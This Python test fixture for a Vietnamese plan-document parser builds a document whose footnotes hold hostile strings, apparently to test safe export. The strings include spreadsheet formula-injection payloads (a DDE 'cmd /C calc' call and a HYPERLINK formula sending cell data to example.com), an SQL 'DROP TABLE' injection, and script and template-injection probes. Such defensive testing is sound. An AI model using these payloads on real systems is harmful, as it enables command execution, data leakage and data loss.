"""Documents as nobody wants them: texts that spreadsheets, databases and XML take for something else, and no text."""

from __future__ import annotations

from vbparse.model.base import Span
from vbparse.model.document import PlanDocument
from vbparse.model.structure import Footnote
from vbparse.pipeline import parse

FORMULAS = (
    '=HYPERLINK("http://example.com/?a="&A1,"Xem")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u3000=1", "\x07=1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "-5+cmd|' /C calc'!A0",
)  # fmt: skip
"""Texts that a spreadsheet would calculate."""

BULLETS = ("- Sở Y tế: chủ trì", "+ Tỷ lệ trẻ em", "'90", "''", "'=1+1", "'; DROP TABLE targets; --")

PLAIN = (
    "Sở Y tế", "a, b; c", 'nói "không"', "dòng một\ndòng hai", "a\r\nb", " trống ", "0123", "-5", "+7,5%", "1e5",
    "TRUE", "null", "NULL", "nan", "", "\\N", "<script>alert(1)</script>", "]]>",
    "&amp;", "<r>a</r>", "http://example.com/", "mailto:a@example.com", "_x0041_", "x\u2028y", "{{7*7}}",
    "a\x1fb", "\U0001f600", "café\u0301",
)  # fmt: skip
LONG = ("x" * 40_000, "\U0001f600" * 20_000)

TEXTS = FORMULAS + BULLETS + PLAIN + LONG


def hostile() -> PlanDocument:
    """A document with a footnote of each text."""
    document = parse("KẾ HOẠCH\nGiảm nghèo năm 2024", name="=1+1.txt")
    notes = tuple(
        Footnote(id=f"footnote-{at}", span=Span(0, 8), marker=str(at), text=text) for at, text in enumerate(TEXTS, 1)
    )
    return document.model_copy(update={"footnotes": notes, "id": "doc-hostile"})


def empty() -> PlanDocument:
    """A document in which nothing was found."""
    return parse("xin chào", name="empty.txt")
